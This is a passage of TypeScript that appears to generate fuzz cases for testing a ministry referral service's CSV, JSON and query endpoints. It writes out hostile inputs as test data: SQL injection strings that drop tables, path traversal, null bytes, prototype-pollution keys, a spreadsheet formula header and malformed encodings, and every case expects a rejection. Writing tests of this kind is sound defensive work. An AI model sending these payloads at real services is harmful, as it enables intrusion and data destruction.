    for (const value of INVALID_DATES) if (value.trim() !== '') csvCellCase(b, endpoint, column, value, 'invalid date');
}

function generateCsv(b: Builder, endpoint: CsvEndpoint, count: number): void {
  const r = b.random;
  const columns = endpoint.columns;
  const cellCase = (column: string, value: string, category: string): void => csvCellCase(b, endpoint, column, value, category);

  const attacks: (() => void)[] = [
    () => cellCase(r.pick(columns), r.pick(HOSTILE_VALUES), 'hostile string'),
    () => {
      // Quote and delimiter abuse inside the raw text.
      const rows = csvRows(b, endpoint, 3);
      const rowIndex = r.int(rows.length);
      const lines = csvText(columns, rows).split('\n');
      const raw = r.pick([
        (line: string) => line.replace(',', `,"${CANARY}`),
        (line: string) => line.replace(',', `,ab"${CANARY}"cd`),
        (line: string) => line.replace(',', `,"${CANARY}"x`),
        (line: string) => `${line},${CANARY}`,
        (line: string) => line.split(',').slice(0, -2).join(','),
        (line: string) => line.replace(/,/g, ';'),
      ]);
      lines[rowIndex + 1] = raw(lines[rowIndex + 1] ?? '');
      csvCase(b, endpoint, 'quote and delimiter abuse', lines.join('\n'), 'reject', `row ${rowIndex + 2}`);
    },
    () => {
      const rows = csvRows(b, endpoint, 2);
      const header = [...columns];
      const which = r.int(5);
      if (which === 0) header.push(`=HYPERLINK("http://x")`);
      if (which === 1) header.push(columns[0] as string);
      if (which === 2) header.splice(0, 1);
      if (which === 3) header[1] = `x'; drop table outbox; --`;
      if (which === 4) header.push(...Array.from({ length: 1_000 }, (_, i) => `extra_${i}`));
      const body = csvText(
        header,
        which === 0 || which === 1
          ? rows.map((row) => [...row, 'x'])
          : which === 4
            ? rows.map((row) => [...row, ...Array.from({ length: 1_000 }, () => '')])
            : which === 2
              ? rows.map((row) => row.slice(1))
              : rows,
      );
      csvCase(b, endpoint, 'header abuse', body, 'reject', 'row 1');
    },
    () => {
      const rows = csvRows(b, endpoint, 5_001);
      csvCase(b, endpoint, 'too many rows', csvText(columns, rows), 'reject', 'body');
    },
    () => {
      const rows = csvRows(b, endpoint, 2);
      const column = r.pick(endpoint.free);
      (rows[0] as string[])[columns.indexOf(column)] = `${CANARY}${'y'.repeat(r.pick([70_000, 2_200_000]))}`;
      csvCase(b, endpoint, 'huge cell', csvText(columns, rows), 'reject', 'row 2');
    },
    () => {
      const body = r.pick(['', '\n\n', ' ', `${columns.join(',')}\n`, '\uFEFF', `${CANARY}`]);
      csvCase(b, endpoint, 'empty batch', body, 'reject', body === CANARY ? 'row 1' : body.startsWith(columns[0] ?? '') ? 'body' : 'body');
    },
    () => {
      const text = csvText(columns, csvRows(b, endpoint, 2));
      const at = text.indexOf('\n') + 3;
      csvCase(
        b,
        endpoint,
        'invalid utf-8',
        Buffer.concat([Buffer.from(text.slice(0, at)), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from(text.slice(at))]),
        'reject',
        'body',
      );
    },
    () => {
      const contentType = r.pick([
        'application/json',
        'text/plain',
        'text/csv; charset=iso-8859-1',
        'application/vnd.ms-excel',
        `text/${CANARY}`,
        undefined,
      ]);
      const body = csvText(columns, csvRows(b, endpoint, 2));
      b.add({
        adapter: endpoint.adapter,
        method: 'POST',
        path: endpoint.path,
        endpoint: `${endpoint.adapter} POST ${endpoint.path}`,
        category: 'wrong content type',
        body,
        ...(contentType === undefined ? {} : { contentType }),
        auth: 'valid',
        expect: 'reject',
        status: 415,
        field: 'Content-Type',
      });
    },
    () => {
      // Valid but unusual: CRLF, a BOM, blank lines, a quoted newline in free text.
      const rows = csvRows(b, endpoint, 3);
      (rows[1] as string[])[columns.indexOf(r.pick(endpoint.free))] = `line one\nline two ${CANARY}`;
      const text = csvText(columns, rows, r.pick(['\n', '\r\n']));
      csvCase(b, endpoint, 'unusual but valid csv', r.chance(0.5) ? `\uFEFF${text}\n\n` : text, 'may-accept');
    },
    () =>
      csvCase(b, endpoint, 'bad credential', csvText(columns, csvRows(b, endpoint, 1)), 'reject', undefined, {
        auth: r.pick(['none', 'wrong', 'basic', 'garbage', 'other-ministry'] as const),
        status: 401,
      }),
  ];
  for (let i = 0; i < count; i += 1) r.pick(attacks)();
}

function generateRoutes(b: Builder, count: number): void {
  const r = b.random;
  for (let i = 0; i < count; i += 1) {
    const route = r.pick(ROUTES);
    const variant = r.int(3);
    if (variant === 0) {
      const method = r.pick(['GET', 'PUT', 'DELETE', 'PATCH', 'OPTIONS']);
      // Express answers OPTIONS itself with the Allow list (200): harmless, so not a refusal.
      b.add({
        adapter: route.adapter,
        method,
        path: route.path,
        endpoint: `${route.adapter} ${method} ${route.path}`,
        category: 'wrong method',
        auth: 'valid',
        ...(method === 'OPTIONS' ? { expect: 'may-accept' } : { expect: 'reject', status: 404 }),
      });
    } else if (variant === 1) {
      const path = r.pick([
        `${route.path}/..%2f..%2fadmin`,
        `${route.path}%00`,
        `${route.path}/${encodeURIComponent(CANARY)}`,
        '/%E0%A4%A',
        `${route.path}/%ff%fe`,
        `/admin`,
        `${route.path}.json`,
      ]);
      b.add({
        adapter: route.adapter,
        method: 'POST',
        path,
        endpoint: `${route.adapter} POST (unknown path)`,
        category: 'unknown path',
        body: '{}',
        contentType: 'application/json',
        auth: 'valid',
        expect: 'reject',
      });
    } else {
      const endpoint = JSON_ENDPOINTS.find((e) => e.adapter === route.adapter && e.path === route.path);
      if (endpoint) {
        const body = freshBody(endpoint, b);
        jsonCase(b, endpoint, 'bad credential', body, 'reject', undefined, {
          auth: r.pick(['none', 'wrong', 'basic', 'garbage', 'other-ministry'] as const),
          status: 401,
        });
      } else {
        b.add({
          adapter: route.adapter,
          method: 'POST',
          path: route.path,
          endpoint: `${route.adapter} POST ${route.path}`,
          category: 'bad credential',
          body: 'a,b\n1,2\n',
          contentType: 'text/csv',
          auth: 'none',
          expect: 'reject',
          status: 401,
        });
      }
    }
  }
}

/**
 * The sweep's cases in a fixed order for a seed: first every field of every endpoint with
 * SQL metacharacters, a wrong type and left out, then random attacks until `cases`.
 */
export function generateCases(options: GeneratorOptions): SweepCase[] {
  const b = new Builder(new Random(prng(options.seed)));
  for (const endpoint of JSON_ENDPOINTS) generateJson(b, endpoint);
  for (const endpoint of CSV_ENDPOINTS) generateCsvSystematic(b, endpoint);
  const systematic = b.cases.length;
  const remaining = Math.max(0, options.cases - systematic);
  // The rest: three quarters JSON attacks spread over the endpoints, the others CSV and routes.
  const jsonShare = Math.floor(remaining * 0.75);
  const csvShare = Math.floor(remaining * 0.18);
  for (let i = 0; i < jsonShare; i += 1) {
    const endpoint = b.random.pick(JSON_ENDPOINTS);
    const nodes = nodesOf(endpoint.baseline);
    generateJsonRandom(b, endpoint, 1, {
      strings: nodes.filter((n) => n.leaf && typeof n.value === 'string'),
      topKeys: Object.keys(endpoint.baseline as Record<string, unknown>),
    });
  }
  for (let i = 0; i < csvShare; i += 1) generateCsv(b, b.random.pick(CSV_ENDPOINTS), 1);
  generateRoutes(b, Math.max(0, options.cases - b.cases.length));
  return b.cases;
}

// ---------------------------------------------------------------- view API query sweep

export interface QueryCase {
  readonly id: number;
  readonly path: string;
  readonly category: string;
  /** Parameters that must be named in a 400 answer. */
  readonly fields: readonly string[];
}

const VIEW_ROUTES: readonly { path: string; params: readonly string[] }[] = [
  {
    path: '/v1/referrals',
    params: ['region', 'status', 'category', 'referringMinistry', 'receivingMinistry', 'from', 'to', 'limit', 'cursor'],
  },
  { path: '/v1/referrals/:id', params: [] },
  { path: '/v1/referrals/:id/flow', params: [] },
  { path: '/v1/stats/referrals', params: ['groupBy', 'region', 'category', 'from', 'to'] },
  { path: '/v1/initiatives', params: ['strategy', 'pillar'] },
  { path: '/v1/initiatives/:id', params: [] },
  { path: '/v1/service-gaps', params: ['status', 'region', 'category', 'severity', 'limit', 'cursor'] },
  { path: '/v1/service-gaps/summary', params: [] },
  { path: '/v1/dead-letters', params: ['limit', 'cursor'] },
  { path: '/v1/audit', params: ['limit', 'cursor'] },
];

const QUERY_VALUES: readonly string[] = [
  ...HOSTILE_VALUES.filter((v) => v.trim() !== ''),
  '-1',
  '0',
  '101',
  '1e3',
  '1.5',
  'NaN',
  'Infinity',
  '0x10',
  ' 5',
  ...INVALID_DATES,
  'x'.repeat(3_000),
];

/** Percent-encodes as UTF-8; a lone surrogate (not encodable) is sent as the raw bytes of its WTF-8 form. */
function encode(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return encodeURIComponent(value.replace(/[\uD800-\uDFFF]/g, '')) + '%ED%A0%80';
  }
}

/** Hostile query parameters (and path ids) for the view API's /v1 routes. */
export function generateQueryCases(seed: number, count: number): QueryCase[] {
  const r = new Random(prng(seed ^ 0x5eed));
  const cases: QueryCase[] = [];
  for (let i = 0; i < count; i += 1) {
    const route = r.pick(VIEW_ROUTES);
    let path = route.path;
    const fields: string[] = [];
    if (path.includes(':id')) {
      const hostileId = r.chance(0.7);
      path = path.replace(':id', hostileId ? encode(r.pick(QUERY_VALUES)) || '%20' : '3f2b8c4e-5d6a-4b7c-8d9e-0a1b2c3d4e5f');
    }
    const parts: string[] = [];
    const n = 1 + r.int(3);
    for (let j = 0; j < n; j += 1) {
      const known = route.params.length > 0 && r.chance(0.75);
      // Unknown names are named back in the answer, so the canary goes in values only.
      const name = known
        ? r.pick(route.params)
        : r.pick(['__proto__', 'constructor[prototype][x]', "x'; drop table audit; --", 'limit[]', 'a'.repeat(300), 'isAdmin']);
      const value = r.pick(QUERY_VALUES);
      const encoded = r.chance(0.1) ? r.pick(['%E0%A4%A', '%00', '%ff', '%', '%%32']) : encode(value);
      parts.push(`${encodeURIComponent(name)}=${encoded}`);
      if (r.chance(0.1)) parts.push(`${encodeURIComponent(name)}=${encode(r.pick(QUERY_VALUES))}`);
      fields.push(name);
    }
    cases.push({ id: i + 1, path: `${path}?${parts.join('&')}`, category: route.path, fields });
  }
  return cases;
}
